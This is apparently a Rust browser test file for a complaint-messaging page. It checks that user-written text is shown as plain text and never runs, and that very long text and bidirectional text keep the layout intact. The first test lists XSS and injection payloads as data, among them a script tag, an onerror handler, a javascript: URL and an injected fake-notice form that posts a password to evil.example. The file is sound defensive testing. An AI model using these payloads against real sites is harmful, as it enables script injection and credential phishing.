//! What a payer writes stays a text.

use browser_suite::{Browser, DESKTOP, Scripts, Server, TELEPHONE, wait_for};
use serde_json::json;

use crate::people::{LI, logged_in, open_complaint};

#[test]
fn html_and_scripts_are_shown_and_do_not_run() {
    let server = Server::start(&[LI]);
    let browser = logged_in(&server, &LI, Scripts::Run);
    let texts = [
        "<script>window.ran = 1</script>",
        "<img src=x onerror='window.ran = 1'>",
        "</p></main><h1>平台通知</h1><form action='//evil.example'><input name=password></form>",
        "javascript:window.ran=1 https://evil.example/?a=1&b=2",
        "{{7*7}} ${7*7} &lt;b&gt; &#x3c;i&#x3e;",
    ];
    for text in texts {
        open_complaint(&browser, &server.file_complaint(text));
        browser.sees(text);
        browser.go("/");
        assert!(!ran(&browser), "{text}");
    }
    let number = server.file_complaint("没有收到货");
    open_complaint(&browser, &number);
    for text in texts {
        server.platform(&format!("complaints/{number}/messages"), &json!({"text": text}));
    }
    for text in texts {
        browser.sees(text);
    }
    assert!(!ran(&browser));
    let foreign = "return document.querySelectorAll('[href*=evil], [action*=evil], [src*=evil], main h1 ~ h1').length";
    assert_eq!(browser.run(foreign, &json!([])), 0);
    assert_eq!(browser.console(), [""; 0]);
    assert_eq!(browser.outside_requests(), [""; 0]);
}

#[test]
fn long_and_twisted_texts_keep_the_layout() {
    let server = Server::start(&[LI]);
    let browser = logged_in(&server, &LI, Scripts::Run);
    let texts = [
        "长".repeat(10_000),
        "x".repeat(10_000),
        "一行\n".repeat(2_000),
        format!("夹{}", "\u{301}".repeat(300)),
        "倒\u{202e}过来\u{2066}的".to_owned(),
        "\u{5e9}\u{5dc}\u{5d5}\u{5dd} 123 abc".to_owned(),
    ];
    for text in &texts {
        open_complaint(&browser, &server.file_complaint(text));
        for size in [DESKTOP, TELEPHONE] {
            browser.resize(size);
            let name: String = text.chars().take(2).collect();
            wait_for(&format!("{name}… within {}", size.0), || {
                (browser.content_width() <= u64::from(size.0)).then_some(())
            });
        }
        browser.resize(DESKTOP);
        assert!(is_isolated(&browser, text), "it turns round what stands beside it");
        // The forms are in reach below it.
        browser.button("发送回复").is_there();
    }
}

fn ran(browser: &Browser) -> bool {
    browser.run("return window.ran !== undefined", &json!([])) == true
}

/// Whether the direction of a text ends with it, wherever it stands.
fn is_isolated(browser: &Browser, text: &str) -> bool {
    let start: String = text.chars().take(4).collect();
    let found = browser.run(ISOLATED, &json!([start]));
    found.as_array().is_some_and(|places| !places.is_empty() && places.iter().all(|isolated| *isolated == true))
}

const ISOLATED: &str = "
    const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT), found = [];
    while (walker.nextNode()) {
        if (!walker.currentNode.data.includes(arguments[0])) continue;
        const around = walker.currentNode.parentElement;
        found.push(['isolate', 'plaintext', 'isolate-override'].includes(getComputedStyle(around).unicodeBidi));
    }
    return found;
";
